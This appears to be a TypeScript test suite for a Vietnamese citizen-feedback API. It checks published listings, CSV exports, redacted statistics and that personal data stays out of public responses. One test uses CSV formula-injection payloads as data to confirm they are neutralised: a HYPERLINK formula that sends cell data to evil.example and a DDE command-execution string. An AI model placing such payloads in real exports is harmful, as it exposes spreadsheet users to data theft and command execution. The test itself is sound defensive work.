/**
 * GET /api/v1/published-feedback (JSON, CSV, item), GET /api/v1/stats/feedback and Open311 over a
 * real temp libSQL file with cases, publications and ratings written directly: only published cases
 * appear, with the publication's redacted texts; search ignores accents; days taken are working
 * days; the statistics count every case and suppress small cells; bad input is a 4xx problem; and
 * the sender's personal data (a canary in feedback_contacts, feedback.title/content and the answer
 * as written) never reaches any public endpoint.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseCsv, parseCsvObjects } from '../contracts/csv.ts';
import { problemCodes } from '../contracts/problem.ts';
import type { FeedbackStatsResult, PublishedItem, PublishedList } from '../contracts/published.ts';
import { publishedCsvColumns } from '../contracts/published.ts';
import { CONTENT_DIR, openHarness, type Harness } from '../test-harness.ts';
import { publishedCsv } from './published.ts';
import { insertCase, type CaseSpec } from '../../db/demo-feedback-public.ts';

let h: Harness;
let app: ReturnType<Harness['app']>;

/** Personal data of the canary case's sender: must appear in no public answer. */
const CANARY = {
  name: 'Canaryname Lê Thị Hoa',
  phone: '0987654321',
  email: 'canary@example.vn',
  address: '99 Đường Canary',
};
const SECRET_TEXT = 'NOIDUNGBIMAT';
const NOW = new Date('2026-03-20T03:00:00Z');

function spec(code: string, over: Partial<CaseSpec> = {}): CaseSpec {
  return {
    code,
    kind: 'phan-anh',
    subject: 'hanh-vi',
    unitId: 'phuong-ninh-hoa',
    procedureCode: '1.001193',
    title: `${SECRET_TEXT} title ${CANARY.name}`,
    content: `${SECRET_TEXT} Tôi là ${CANARY.name}, số ${CANARY.phone}`,
    status: 'published',
    // Monday 2/3/2026 09:00 Việt Nam → answered Monday 9/3/2026: 5 working days.
    receivedAt: '2026-03-02T02:00:00.000Z',
    answerDueAt: '2026-03-16T16:59:59.999Z',
    answeredAt: '2026-03-09T02:00:00.000Z',
    contact: CANARY,
    answerBody: `Kính gửi ${CANARY.name}, ${SECRET_TEXT}`,
    publication: {
      title: 'Chờ lâu khi đăng ký khai sinh',
      content: 'Tôi nộp hồ sơ đăng ký khai sinh nhưng phải chờ lâu.',
      answer: 'Phường đã bổ sung cán bộ tiếp nhận hồ sơ hộ tịch.',
      publishedAt: '2026-03-10T02:00:00.000Z',
    },
    ...over,
  };
}

beforeAll(async () => {
  h = await openHarness('published');
  app = h.app({ CONTENT_DIR, STATS_MIN_N: '3' }, () => NOW);
  await insertCase(h.db.client, spec('AAAA-2222', { rating: { satisfied: true, at: '2026-03-11T02:00:00.000Z' } }));
  await insertCase(
    h.db.client,
    spec('AAAA-3333', {
      kind: 'kien-nghi',
      subject: 'quy-dinh',
      unitId: 'so-y-te',
      procedureCode: undefined,
      status: 'disputed',
      // Answered after its deadline.
      answerDueAt: '2026-03-04T16:59:59.999Z',
      publication: {
        title: 'Bỏ yêu cầu bản sao chứng thực',
        content: 'Đề nghị không yêu cầu bản sao có chứng thực.',
        answer: 'Sở Y tế tiếp thu.',
        senderName: 'Trần Văn Đồng Ý',
        publishedAt: '2026-03-12T02:00:00.000Z',
      },
      rating: { satisfied: false, at: '2026-03-12T03:00:00.000Z' },
      disputedAt: '2026-03-12T03:00:00.000Z',
    }),
  );
  // Answered, not published: counted in statistics, never listed.
  await insertCase(h.db.client, spec('AAAA-4444', { publication: undefined }));
  // Received, not answered, not published.
  await insertCase(
    h.db.client,
    spec('AAAA-5555', { publication: undefined, answeredAt: undefined, status: 'received' }),
  );
});

afterAll(() => h.close());

async function json<T>(path: string): Promise<T> {
  const res = await app.request(path);
  expect(res.status, path).toBe(200);
  return (await res.json()) as T;
}

async function problem(path: string, status: number, code: string): Promise<void> {
  const res = await app.request(path);
  expect(res.status, path).toBe(status);
  expect(res.headers.get('content-type')).toMatch(/^application\/problem\+json/);
  const body = (await res.json()) as { code: string };
  expect(body.code).toBe(code);
  expect(problemCodes).toContain(body.code);
}

describe('GET /published-feedback', () => {
  it('lists published cases only, with the publication texts, dates, days taken and rating', async () => {
    const list = await json<PublishedList>('/api/v1/published-feedback');
    expect(list.total).toBe(2);
    expect(list.items.map((i) => i.tracking_code)).toEqual(['AAAA-3333', 'AAAA-2222']);
    const a = list.items[1]!;
    expect(a).toMatchObject({
      title: 'Chờ lâu khi đăng ký khai sinh',
      question: 'Tôi nộp hồ sơ đăng ký khai sinh nhưng phải chờ lâu.',
      answer: 'Phường đã bổ sung cán bộ tiếp nhận hồ sơ hộ tịch.',
      sender_name: null,
      status: 'answered',
      on_time: true,
      working_days: 5,
      satisfied: true,
      disputed: false,
      unit: { id: 'phuong-ninh-hoa' },
      procedure: { code: '1.001193' },
    });
    const b = list.items[0]!;
    expect(b).toMatchObject({ status: 'disputed', disputed: true, on_time: false, satisfied: false });
    expect(b.sender_name).toBe('Trần Văn Đồng Ý');
  });

  it('filters by unit subtree, kind, subject and days, and searches without accents', async () => {
    const codes = async (qs: string) =>
      (await json<PublishedList>(`/api/v1/published-feedback?${qs}`)).items.map((i) => i.tracking_code);
    expect(await codes('unit=phuong-ninh-hoa')).toEqual(['AAAA-2222']);
    expect(await codes('unit=khanh-hoa')).toHaveLength(2);
    expect(await codes('kind=kien-nghi')).toEqual(['AAAA-3333']);
    expect(await codes('subject=hanh-vi')).toEqual(['AAAA-2222']);
    expect(await codes('q=dang%20ky%20KHAI%20sinh')).toEqual(['AAAA-2222']);
    expect(await codes('q=so%20y%20te')).toEqual(['AAAA-3333']);
    expect(await codes('from=2026-03-03')).toEqual([]);
    expect(await codes('from=2026-03-02&to=2026-03-02')).toHaveLength(2);
    expect(await codes(`q=${SECRET_TEXT}`)).toEqual([]);
    const paged = await json<PublishedList>('/api/v1/published-feedback?per_page=1&page=2');
    expect(paged).toMatchObject({ total: 2, pages: 2, page: 2 });
    expect(paged.items.map((i) => i.tracking_code)).toEqual(['AAAA-2222']);
  });

  it('refuses bad input with a 4xx problem, never a 500', async () => {
    await problem('/api/v1/published-feedback?unit=no-such-unit', 422, 'unknown_unit');
    await problem('/api/v1/published-feedback?kind=x', 422, 'validation_failed');
    await problem('/api/v1/published-feedback?from=2026-13-01', 422, 'validation_failed');
    await problem('/api/v1/published-feedback?from=2026-03-05&to=2026-03-01', 422, 'validation_failed');
    await problem('/api/v1/published-feedback?page=0', 422, 'validation_failed');
    await problem('/api/v1/published-feedback?per_page=1000', 422, 'validation_failed');
    await problem('/api/v1/published-feedback?q=' + 'x'.repeat(300), 422, 'validation_failed');
    await problem('/api/v1/published-feedback/AAAA-4444', 404, 'published_not_found');
    await problem('/api/v1/published-feedback/nonsense', 404, 'published_not_found');
  });

  it('gives one published case by code (any case) and 404 for an unpublished one', async () => {
    const item = await json<PublishedItem>('/api/v1/published-feedback/aaaa-2222');
    expect(item.tracking_code).toBe('AAAA-2222');
  });

  it('serves the CSV with a BOM, the documented columns and the same cases', async () => {
    const res = await app.request('/api/v1/published-feedback.csv?kind=phan-anh');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    const bytes = new Uint8Array(await res.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder().decode(bytes);
    expect(parseCsv(text)[0]).toEqual([...publishedCsvColumns]);
    const rows = parseCsvObjects(text);
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({
      tracking_code: 'AAAA-2222',
      working_days: '5',
      satisfied: 'true',
      on_time: 'true',
    });
  });

  it('neutralises citizen text a spreadsheet would run as a formula (issue #7 part 4)', async () => {
    const item = await json<PublishedItem>('/api/v1/published-feedback/AAAA-2222');
    const hostile = {
      title: '=HYPERLINK("https://evil.example/?d="&A2,"Xem chi tiết")',
      question: "+cmd|' /C calc'!A0",
      answer: '-2+3',
      sender_name: '@SUM(1+1)',
      subject: '\t=1',
    };
    const csv = publishedCsv([{ ...item, ...hostile } as PublishedItem]);
    const [row] = parseCsvObjects(csv);
    for (const [col, text] of Object.entries(hostile)) expect(row![col], col).toBe(`'${text}`);
    expect(row!.working_days).toBe('5');
  });
});

describe('GET /stats/feedback', () => {
  it('counts every case (published or not), by period and child unit, and suppresses small cells', async () => {
    const r = await json<FeedbackStatsResult>('/api/v1/stats/feedback?span=2026-Q1&period=month');
    expect(r.min_n).toBe(3);
    // Two rated < min n 3: the count is withheld too (issue #7, docs/statistics.md); feedback
    // figures are labelled as feedback cases, not one-stop records (issue #7 §3).
    expect(r.summary).toMatchObject({ received: 4, answered: 3, rated: null, label: 'feedback cases' });
    // 2 of 3 answered by the deadline; all three answered in 5 working days.
    // Rounded to 0.1 as the table shows it (issue #7).
    expect(r.summary.on_time.value).toBe(66.7);
    expect(r.summary.on_time.n).toBe(3);
    expect(r.summary.days_to_answer).toMatchObject({ n: 3, value: 5, suppressed: false });
    expect(r.summary.disputed.value).toBe(33.3);
    // Two ratings < min n 3: suppressed, n withheld.
    expect(r.summary.satisfied).toMatchObject({ n: null, value: null, suppressed: true });
    expect(r.series.map((p) => [p.period, p.summary.received])).toEqual([
      ['2026-01', 0],
      ['2026-02', 0],
      ['2026-03', 4],
    ]);
    const health = r.units.find((u) => u.unit === 'so-y-te')!;
    expect(health.summary).toMatchObject({ received: null, answered: null });
    expect(health.summary.on_time.suppressed).toBe(true);
    // The ward's 3 are hidden with the department's 1: otherwise 4 − 3 would give it.
    const ward = r.units.find((u) => u.unit === 'phuong-ninh-hoa');
    expect(ward?.summary.received).toBeNull();

    const sub = await json<FeedbackStatsResult>('/api/v1/stats/feedback?unit=so-y-te&span=2026-Q1');
    expect(sub.summary.received).toBeNull();
  });

  it('serves a CSV and refuses bad queries', async () => {
    const res = await app.request('/api/v1/stats/feedback.csv?span=2026-Q1');
    expect(res.status).toBe(200);
    const rows = parseCsvObjects(await res.text());
    expect(rows.find((x) => x.metric === 'received' && x.period === '2026-Q1' && x.unit === 'khanh-hoa')?.value).toBe(
      '4',
    );
    await problem('/api/v1/stats/feedback?unit=nowhere', 422, 'unknown_unit');
    await problem('/api/v1/stats/feedback?period=week', 422, 'validation_failed');
    await problem('/api/v1/stats/feedback?from=2026-03-01&to=2026-03-31', 422, 'fixed_periods_only');
    await problem('/api/v1/stats/feedback?span=2026-03-01', 422, 'validation_failed');
  });
});

describe('personal data', () => {
  it('never reaches any public endpoint (canary in contacts, the case text and the raw answer)', async () => {
    const paths = [
      '/api/v1/published-feedback',
      '/api/v1/published-feedback?per_page=100',
      '/api/v1/published-feedback/AAAA-2222',
      '/api/v1/published-feedback/AAAA-3333',
      '/api/v1/published-feedback.csv',
      '/api/v1/stats/feedback',
      '/api/v1/stats/feedback.csv',
      '/open311/v2/services.json',
      '/open311/v2/requests.json?start_date=2026-01-01',
      '/open311/v2/requests.json?start_date=2026-01-01&lang=en',
      '/open311/v2/requests/AAAA-2222.json',
      '/open311/v2/requests/AAAA-3333.json',
    ];
    const needles = [CANARY.name, 'Canaryname', CANARY.phone, CANARY.email, CANARY.address, SECRET_TEXT, 'Kính gửi'];
    for (const path of paths) {
      const res = await app.request(path);
      expect(res.status, path).toBe(200);
      const body = await res.text();
      for (const n of needles) expect(body, `${path} leaks ${n}`).not.toContain(n);
    }
  });
});
